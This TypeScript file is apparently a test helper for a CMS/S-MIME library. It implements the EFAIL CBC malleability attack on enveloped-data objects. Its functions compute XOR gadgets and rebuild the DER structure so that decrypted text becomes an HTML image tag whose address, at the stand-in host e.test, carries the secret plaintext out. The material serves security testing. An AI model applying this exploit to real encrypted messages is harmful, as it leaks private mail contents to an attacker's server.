import { type Bytes, concat } from "../../../../src/base/bytes.ts";
import { readCms } from "../../../../src/cms/content-info.ts";
import { derElement, derOid, derSequence } from "../../../../src/pki/der.ts";
import { OID } from "../../../../src/pki/oids.ts";

/** Where the ciphertext and, for CBC, its initialisation vector lie in an object. */
export function places(object: Bytes): { text: number; length: number; iv: number } {
  const cms = readCms(object);
  if (cms.type !== "enveloped-data" && cms.type !== "auth-enveloped-data") throw new Error(cms.type);
  const segment = cms.encrypted.segments?.[0] as Bytes;
  const text = segment.byteOffset - object.byteOffset;
  const header = segment.length < 0x80 ? 2 : segment.length < 0x100 ? 3 : 4;
  return { text, length: segment.length, iv: text - header - 16 };
}

/** Octets of a block of AES. */
export const BLOCK = 16;

/** Blocks that decrypt to noise and then to a text of Eve's choice, made of the known first block (EFAIL §4.2). */
function gadgets(object: Bytes, known: string, chosen: string[]): Bytes {
  const { text, iv } = places(object);
  const first = object.subarray(text, text + BLOCK);
  return concat(...chosen.flatMap((wanted) => [mask(object.subarray(iv, iv + BLOCK), known, wanted), first]));
}

/** A ciphertext of at least twelve blocks whose text Eve has put into the address of a picture, at e.test, as far as CBC lets her. */
export function pictureAround(object: Bytes, known: string): Bytes {
  const before = gadgets(object, known, ["<img ignore=\"", "\" src=//e.test/"]);
  const after = gadgets(object, known, ["\">"]);
  // Behind the three blocks of the header; the last block keeps the padding right.
  return withCiphertext(object, (blocks) => concat(blocks.subarray(0, 48), before, blocks.subarray(32, 160), after, blocks.subarray(-32)));
}

/** What to XOR into a block so that a known text becomes a wanted one. */
export function mask(block: Bytes, known: string, wanted: string): Bytes {
  return Uint8Array.from(block, (octet, i) => octet ^ known.charCodeAt(i) ^ wanted.padEnd(BLOCK).charCodeAt(i));
}

/** The object with another ciphertext, its lengths written anew. */
export function withCiphertext(object: Bytes, change: (blocks: Bytes) => Bytes): Bytes {
  const { text, length, iv } = places(object);
  const recipients = recipientsOf(object);
  const algorithm = object.subarray(text - (text - iv - BLOCK) - BLOCK - 2 - 13, text - (text - iv - BLOCK));
  const content = derSequence(derOid(OID.data), algorithm, derElement(0x80, change(object.subarray(text, text + length))));
  return derSequence(derOid(OID.envelopedData), derElement(0xa0, derSequence(Uint8Array.of(2, 1, 2), recipients, content)));
}

/** The SET OF RecipientInfo as it stands: it begins at its tag, behind the version. */
export function recipientsOf(object: Bytes): Bytes {
  const start = object.findIndex((octet, i) => octet === 0x31 && object[i - 3] === 2 && object[i - 2] === 1);
  const size = object[start + 1] as number;
  const header = size < 0x80 ? 2 : 2 + (size & 0x7f);
  const length = size < 0x80 ? size : Number.parseInt(Buffer.from(object.subarray(start + 2, start + header)).toString("hex"), 16);
  return object.subarray(start, start + header + length);
}
